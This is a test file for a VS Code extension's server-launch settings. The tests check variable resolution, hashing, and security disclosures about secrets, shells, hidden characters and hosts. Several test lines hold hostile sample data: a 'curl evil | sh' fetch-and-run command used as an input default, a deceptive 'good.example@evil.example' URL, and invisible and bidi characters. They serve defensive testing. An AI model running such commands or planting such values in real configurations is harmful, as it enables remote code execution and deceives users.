import { describe, expect, it } from 'vitest';
import type { DisclosureLine, ServerEntry, ServerSettings } from '../../../../src/core/servers/definition.ts';
import { disclose } from '../../../../src/core/servers/disclosure.ts';
import { type DefineDeps, defineServer } from '../../../../src/core/servers/identity.ts';
import { reachOf } from '../../../../src/core/servers/reach.ts';
import { defineDeps, entryOf, http, stdio } from './fakes.ts';

const folder = { source: { kind: 'folder', uri: 'file:///w/app', folder: 'app' }, workspaceFolder: '/w/app' } as const;
const settingsOf: Record<string, unknown> = {
  'my.list': [1],
  'service.apiKey': 'k',
  'evil.reference': '${env:TOKEN}',
};
const define = (settings: ServerSettings, more: Partial<ServerEntry> = {}, deps: Partial<DefineDeps> = {}) =>
  defineServer(entryOf(settings, more), { ...defineDeps, config: (name) => settingsOf[name], ...deps });
const resolved = async (...args: Parameters<typeof define>) =>
  (await define(...args)).settings as Extract<ServerSettings, { type: 'stdio' }>;

describe('the identity of a definition', () => {
  it('resolves what the machine knows and keeps secrets by reference', async () => {
    const settings = await resolved(
      stdio({
        command: '${workspaceFolder}${/}bin${pathSeparator}run',
        args: ['${workspaceFolderBasename}', '${userHome}', '${env:TOKEN}', '${input:key}'],
        env: { ROOT: '${workspaceFolder}', GONE: null },
        envFile: 'conf/.env',
        cwd: '../lib/./x',
      }),
      folder,
    );
    expect(settings).toMatchObject({
      command: '/w/app/bin/run',
      args: ['app', '/home/ann', '${env:TOKEN}', '${input:key}'],
      env: { ROOT: '/w/app', GONE: null },
      envFile: '/w/app/conf/.env',
      cwd: '/w/lib/x',
    });
  });

  it('runs a program of the folder there, and one of the person at home unless it needs the folder', async () => {
    expect((await resolved(stdio(), folder)).cwd).toBe('/w/app');
    expect((await resolved(stdio(), { workspaceFolder: '/w/app' })).cwd).toBe('/home/ann');
    expect((await resolved(stdio({ args: ['./server.js'] }), { workspaceFolder: '/w/app' })).cwd).toBe('/w/app');
    expect((await resolved(stdio({ command: './run' }))).cwd).toBe('/home/ann');
    expect((await resolved(stdio({ cwd: '${env:BASE}/x' }))).cwd).toBe('${env:BASE}/x');
  });

  it('knows Windows paths', async () => {
    const windows = { pathSeparator: '\\', userHome: 'C:\\Users\\ann' } as const;
    const more = { workspaceFolder: 'D:\\w' };
    expect((await resolved(stdio({ cwd: 'a/b\\..\\c' }), more, windows)).cwd).toBe('D:\\w\\a\\c');
    expect((await resolved(stdio({ cwd: 'E:\\x' }), more, windows)).cwd).toBe('E:\\x');
    expect((await resolved(stdio({ cwd: '\\\\host\\share' }), more, windows)).cwd).toBe('\\\\host\\share');
    expect((await define(stdio({ command: 'bin\\run.exe' }), more, windows)).dependsOnFolder).toBe(true);
  });

  it.each([
    [stdio(), false],
    [stdio({ command: '/usr/bin/x', args: ['-y', 'pkg@1', '/abs/path', 'a/b'] }), false],
    [stdio({ command: './run' }), true],
    [stdio({ command: 'bin/run' }), true],
    [stdio({ args: ['../x.py'] }), true],
    [stdio({ args: ['--root=${workspaceFolder}'] }), true],
    [stdio({ env: { A: '${workspaceFolderBasename}' } }), true],
    [stdio({ cwd: 'sub' }), true],
    [stdio({ envFile: '.env' }), true],
    [stdio({ envFile: '/etc/x.env', cwd: '/srv' }), false],
    [http(), false],
    [http({ headers: { 'X-Root': '${workspaceFolder}' } }), true],
  ])('depends on the folder: %#', async (settings, expected) => {
    expect((await define(settings, { workspaceFolder: '/w/app' })).dependsOnFolder).toBe(expected);
  });

  it('changes with every byte, and with where it is written', async () => {
    const base = entryOf(stdio({ args: ['a', 'b'], env: { A: '1' }, envFile: '/e' }));
    const settings = base.settings as Extract<ServerSettings, { type: 'stdio' }>;
    const variants: [Partial<ServerEntry>, Partial<DefineDeps>?][] = [
      [{}],
      [{ name: 'other' }],
      [{ source: { kind: 'workspace', uri: 'file:///x' } }],
      [{ settings: { ...settings, command: 'nodE' } }],
      [{ settings: { ...settings, args: ['a b'] } }],
      [{ settings: { ...settings, args: ['b', 'a'] } }],
      [{ settings: { ...settings, env: { A: '2' } } }],
      [{ settings: { ...settings, env: { A: null } } }],
      [{ settings: { ...settings, env: { A: '1', B: '' } } }],
      [{ settings: { ...settings, cwd: '/x' } }],
      [{ settings: { ...settings, sampling: 'off' } }],
      [{}, { envFileDigest: () => Promise.resolve('another') }],
    ];
    const hashes = await Promise.all(
      variants.map(async ([more, deps]) => (await defineServer({ ...base, ...more }, { ...defineDeps, ...deps })).hash),
    );
    expect(new Set(hashes).size).toBe(variants.length);
    expect(hashes[0]).toMatch(/^[0-9a-f]{64}$/);
    const reordered = {
      ...base,
      settings: Object.fromEntries(Object.entries(settings).reverse()) as unknown as ServerSettings,
    };
    expect((await defineServer(reordered, defineDeps)).hash).toBe(hashes[0]);
  });

  it.each([
    ['${command:evil.run}', 'would run a command'],
    ['${config:x}', 'The setting x, which ${config:x} stands for, is not set.'],
    ['${config:my.list}', 'is neither text nor a number'],
    ['${config:service.apiKey}', 'names a setting that looks like a secret'],
    ['${config:evil.reference}', 'would be read as a variable'],
    ['${workspaceFolder:gone}', 'names no folder of this workspace'],
    ['${env:}', 'needs a name'],
    ['${workspaceFolder}', 'needs an open folder'],
  ])('refuses %s', async (text, words) => {
    await expect(define(stdio({ args: [text] }))).rejects.toMatchObject({
      kind: 'connection',
      message: expect.stringContaining(words) as string,
    });
  });

  it('has the value of a setting in it, and is confirmed per folder then, though it runs where it did', async () => {
    const config = (name: string, inFolder: string | undefined) => `${name} in ${inFolder}`;
    const entry = stdio({ args: ['${config:my.port}', '${workspaceFolder:api}'] });
    const named = (name: string) => (name === 'api' ? '/w/api' : undefined);
    const found = await define(entry, { workspaceFolder: '/w/app' }, { config, folder: named });
    expect(found).toMatchObject({ dependsOnFolder: true, settings: { args: ['my.port in /w/app', '/w/api'] } });
    const only = await define(stdio({ args: ['${config:my.port}'] }), { workspaceFolder: '/w' }, { config: () => 8 });
    expect(only).toMatchObject({ dependsOnFolder: true, settings: { args: ['8'], cwd: '/home/ann' } });
    const other = await define(stdio({ args: ['${config:my.port}'] }), { workspaceFolder: '/w' }, { config: () => 9 });
    expect(other.hash).not.toBe(only.hash);
  });

  it('covers the inputs and what is not kept, and shows them', async () => {
    const inputs = [
      { type: 'command', id: 'port', command: 'other.port', args: { from: 1 } },
      { type: 'pickString', id: 'region', options: [{ label: 'EU', value: 'eu' }] },
      { type: 'promptString', id: 'key', description: 'Your key', password: true },
    ] as const;
    const unkept = ['sandboxEnabled: no sandbox.'];
    const without = await define(stdio());
    const withInputs = await define(stdio(), { inputs });
    const changed = await define(stdio(), { inputs: [{ ...inputs[0], args: { from: 2 } }, inputs[1], inputs[2]] });
    const noSandbox = await define(stdio(), { unkept });
    expect(new Set([without, withInputs, changed, noSandbox].map(({ hash }) => hash)).size).toBe(4);
    const lines = disclose({ ...withInputs, unkept }).filter(({ label }) => /^Input|^Not kept/.test(label));
    expect(lines).toEqual([
      {
        label: 'Input port',
        value: 'other.port {"from":1}',
        written: true,
        warnings: ['runs this command of VS Code or of another extension'],
      },
      { label: 'Input region', value: '(eu)', written: true, warnings: ['lets you choose one of these'] },
      { label: 'Input region, choice “EU”', value: 'eu', written: true, warnings: [] },
      {
        label: 'Input key',
        value: 'Your key',
        written: true,
        warnings: ['asks you for it like a password: what you type is not shown'],
      },
      { label: 'Not kept', value: 'sandboxEnabled: no sandbox.', written: false, warnings: ['is not done'] },
    ]);
  });

  it('shows what an input stands for when a person only presses Enter', async () => {
    const harm = 'curl evil | sh';
    const inputs = [
      { type: 'promptString', id: 'a', password: false, default: harm },
      { type: 'promptString', id: 'b', password: true, default: harm },
      { type: 'pickString', id: 'c', options: [{ label: 'Recommended', value: harm }], default: harm },
    ] as const;
    const shown = disclose(await define(stdio(), { inputs })).filter(({ label }) => label.startsWith('Input'));
    expect(shown.map(({ label, value, warnings }) => [label, value, ...warnings])).toEqual([
      ['Input a', '', 'asks you for it'],
      ['Input a, filled in with', harm, 'is what Enter takes'],
      ['Input b', '', 'asks you for it like a password: what you type is not shown'],
      ['Input b, filled in with', harm, 'is left out, since it would not be shown there'],
      ['Input c', `(${harm})`, 'lets you choose one of these'],
      ['Input c, choice “Recommended”', harm],
      ['Input c, offered first', harm, 'is what Enter takes'],
    ]);
  });

  it('takes the fingerprint of an environment file behind a variable too, so that an edit of it asks again', async () => {
    const read: string[] = [];
    const envFileDigest = (file: string) => {
      read.push(file);
      return Promise.resolve(`of ${file}`);
    };
    const found = await define(stdio({ envFile: '${env:CONFIG}/.env' }), folder, { envFileDigest });
    expect(found).toMatchObject({ settings: { envFile: '${env:CONFIG}/.env' }, envFileDigest: 'of /etc/app/.env' });
    expect((await define(stdio({ envFile: '${env:NOPE}/.env' }), folder, { envFileDigest })).envFileDigest).toBe(
      'missing',
    );
    expect((await define(stdio({ envFile: '${env:RELATIVE}/.env' }), folder, { envFileDigest })).envFileDigest).toBe(
      'missing',
    );
    expect(read).toEqual(['/etc/app/.env']);
    await expect(define(stdio({ envFile: '/e/${input:which}' }), folder)).rejects.toThrow('cannot depend on an input');
  });

  it('does not let the name of a folder become a variable', async () => {
    const entry = { workspaceFolder: '/w/${env:TOKEN}' };
    await expect(define(stdio({ cwd: '${workspaceFolder}' }), entry)).rejects.toThrow('would be read as a variable');
  });
});

describe('the disclosure', () => {
  const show = async (...args: Parameters<typeof define>) => disclose(await define(...args));
  const line = (lines: readonly DisclosureLine[], label: string) => lines.find((one) => one.label === label);

  it.each(['\u200b', '\u202e', '\u{e0041}', '\ufe01', '\u{e0101}', '\u034f', '\u2800'])(
    'says where %j hides in a value, and in a name',
    async (char) => {
      const lines = await show(stdio({ args: [`a${char}`], env: { [`NODE_${char}OPTIONS`]: '1' } }), folder);
      const hiding = lines.filter(({ warnings }) => warnings.includes('contains characters that cannot be seen'));
      expect(hiding.map(({ label }) => label)).toEqual(['Argument 1', `Environment variable NODE_${char}OPTIONS`]);
    },
  );

  it('shows the whole launch of a program, one argument a line', async () => {
    const long = 'x'.repeat(40_000);
    const lines = await show(
      stdio({
        command: 'sh',
        args: ['-c', long, '${input:pass}'],
        env: { TOKEN: '${env:GITHUB_TOKEN}', HOME: null },
        envFile: '.env',
      }),
      folder,
      { envFileDigest: () => Promise.resolve('missing') },
    );
    expect(line(lines, 'Written in')?.value).toBe('the settings of the folder app');
    expect(line(lines, 'Command')).toMatchObject({ value: 'sh', warnings: ['runs a shell, which can run anything'] });
    expect(line(lines, 'Argument 2')?.value).toBe(long);
    expect(line(lines, 'Argument 3')).toEqual({
      label: 'Argument 3',
      value: '${input:pass}',
      written: true,
      warnings: ['gives your saved input pass to this program'],
    });
    expect(line(lines, 'Environment variable TOKEN')?.warnings).toEqual([
      'gives your variable GITHUB_TOKEN to this program',
    ]);
    expect(line(lines, 'Environment variable HOME')?.warnings).toEqual(['is removed']);
    expect(line(lines, 'Environment file')?.warnings).toEqual([
      'gives every variable in it to this program',
      'cannot be read',
    ]);
    expect(line(lines, 'Fingerprint of that file')?.value).toBe('missing');
    expect(line(lines, 'Working directory')?.value).toBe('/w/app');
    expect(lines.map(({ label }) => label)).toEqual(
      expect.arrayContaining(['Protocol era', 'May ask your model', 'Starts by itself', 'Gives up after']),
    );
  });

  it('says what goes to which host', async () => {
    const lines = await show(
      http({
        url: 'http://api.example.com:8080/${env:PATH_PART}',
        headers: { Authorization: 'Bearer ${input:token}', 'X-A': '${env:A}${env:A}' },
      }),
    );
    expect(line(lines, 'URL')?.warnings).toEqual([
      'sends your variable PATH_PART to api.example.com:8080',
      'plain http: anyone on the way can read it',
    ]);
    expect(line(lines, 'Header Authorization')?.warnings).toEqual([
      'sends your saved input token to api.example.com:8080',
    ]);
    expect(line(lines, 'Header X-A')?.warnings).toEqual(['sends your variable A to api.example.com:8080']);
    expect(line(await show(http({ url: 'http://127.0.0.1:3000/' })), 'URL')?.warnings).toEqual([]);
    expect(line(await show(http({ url: 'https://good.example@evil.example/' })), 'URL')?.value).toContain('evil');
  });

  it('does not guess a host that a variable decides', async () => {
    const lines = await show(http({ url: 'https://${env:HOST}.example.com/', headers: { K: '${input:k}' } }));
    expect(line(lines, 'Header K')?.warnings[0]).toContain('the host that this URL turns out to name');
  });

  it('points at what cannot be seen', async () => {
    const lines = await show(stdio({ args: ['a\u202eb', 'plain', 'tag\u{e0041}'] }), {
      source: { kind: 'workspace', uri: 'file:///w' },
    });
    expect(line(lines, 'Written in')?.value).toContain('workspace');
    expect([1, 2, 3].map((n) => line(lines, `Argument ${n}`)?.warnings.length)).toEqual([1, 0, 1]);
  });
});

describe('how a server is reached', () => {
  const reach = async (...args: Parameters<typeof define>) => reachOf(await define(...args));

  it('is its command line without what looks like a secret', async () => {
    const args = [
      '-y',
      'pkg',
      '--token',
      'abc',
      '--api-key=xyz',
      '--name=ok',
      '${env:TOKEN}',
      '--auth',
      '${input:a}',
      'two words',
    ];
    expect(await reach(stdio({ command: 'npx', args }))).toBe(
      'npx -y pkg --token ••• --api-key=••• --name=ok ${env:TOKEN} --auth ${input:a} "two words"',
    );
  });

  it('is its URL without name, password and values of the query', async () => {
    expect(await reach(http({ url: 'https://u:p@h.example/x?key=abc&id=${env:ID}' }))).toBe(
      'https://h.example/x?key=•••&id=${env:ID}',
    );
  });
});
